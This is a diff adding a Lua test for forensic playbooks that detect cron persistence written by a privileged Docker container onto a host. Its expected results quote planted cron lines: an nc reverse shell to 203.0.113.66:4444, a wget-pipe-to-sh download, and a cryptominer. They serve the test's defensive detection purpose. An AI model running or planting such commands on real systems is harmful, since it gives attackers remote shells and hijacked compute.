@@ -1,0 +1,70 @@
+-- Checks the investigation playbooks on the dockerd-ext4 evidence (the
+-- host mounted read-only, and the data root alone) and on the
+-- docker-explorer data roots.  args: HOST_MOUNT DATA_ROOT DE_ROOT...
+local t = require "testlib"
+local inv = require "invlib"
+local _, argv = ...
+local host, root = argv[1], argv[2]
+
+local function sh(cmd) return io.popen(cmd):read("l") end
+
+-- the privileged container that bound / is the only one reaching the host
+local recs = inv.run("root-mounts-cron", { host })
+t.eq("host: reach", inv.names(recs, "reach"), { "attacker" })
+t.eq("host: reasons", inv.where(recs, "reach")[1].reasons,
+  { "binds the host's / at /host (read-write)", "privileged" })
+t.eq("host: cron writes", inv.writes(recs), {
+  "attacker host /host/etc/cron.d/backdoor life",
+  "attacker host /host/etc/cron.d/e2scrub_all -",
+  "attacker host /host/etc/cron.daily/logrotate -",
+  "attacker host /host/etc/crontab -",
+  "attacker layer /etc/crontabs/root life",
+  "attacker layer /var/spool/cron/crontabs/root life" })
+local bd
+for _, w in ipairs(inv.where(recs, "cron-write")) do
+  if w.path == "/host/etc/cron.d/backdoor" then bd = w end
+end
+local f = host .. "/etc/cron.d/backdoor"
+t.eq("backdoor: provenance", { bd.host_path, bd.inum, bd.size, bd.mtime,
+  bd.btime, bd.sha256, bd.source },
+  { "/etc/cron.d/backdoor", tonumber(sh("stat -c %i " .. f)), 127,
+    "2026-12-03T16:07:40.296117106Z", "2026-12-03T16:07:40.296117106Z",
+    sh("sha256sum " .. f):match("^%x+"), f })
+t.ok("backdoor: content", bd.content:find(
+  '* * * * * root /bin/sh -c "nc 203.0.113.66 4444 -e /bin/sh" '
+  .. "# DFX-HOST-CRON", 1, true), bd.content)
+local layer = {}
+for _, w in ipairs(inv.where(recs, "cron-write")) do
+  if w.where == "layer" then layer[#layer + 1] = w.layer .. " " .. w.content end
+end
+table.sort(layer)
+t.eq("layer files: layer and content", layer, {
+  "56cb9693f4055f873e78a138e074e4103353981ee1db3a7dd12752ee3b5f9b29 "
+    .. "*/10 * * * * /tmp/.x/miner --pool 203.0.113.66:3333 "
+    .. "# DFX-SPOOL-CRON\n",
+  "56cb9693f4055f873e78a138e074e4103353981ee1db3a7dd12752ee3b5f9b29 "
+    .. "*/5 * * * * wget -q -O- http://203.0.113.66/x.sh | sh "
+    .. "# DFX-ALPINE-CRON\n" })
+
+-- the data root alone: the layer files, and a note for the host part
+recs = inv.run("root-mounts-cron", { root })
+t.eq("data root: cron writes", inv.writes(recs), {
+  "attacker layer /etc/crontabs/root life",
+  "attacker layer /var/spool/cron/crontabs/root life" })
+t.eq("data root: note", inv.names(recs, "note"), { "attacker" })
+
+-- opaque-run deleted /var/spool/mail: a deletion, but not of cron
+recs = inv.run("root-mounts-cron", { root }, { containers = "all" })
+t.eq("every container: only the attacker's cron", inv.writes(recs), {
+  "attacker layer /etc/crontabs/root life",
+  "attacker layer /var/spool/cron/crontabs/root life" })
+
+-- no false cron writes on the docker-explorer roots
+for i = 3, #argv do
+  local label = argv[i]:match("de%-([^/]+)") or argv[i]
+  recs = inv.run("root-mounts-cron", { argv[i] }, { containers = "all" })
+  t.eq("docker-explorer " .. label .. ": no cron writes",
+    inv.writes(recs), {})
+  t.eq("docker-explorer " .. label .. ": no reach",
+    inv.names(recs, "reach"), {})
+end
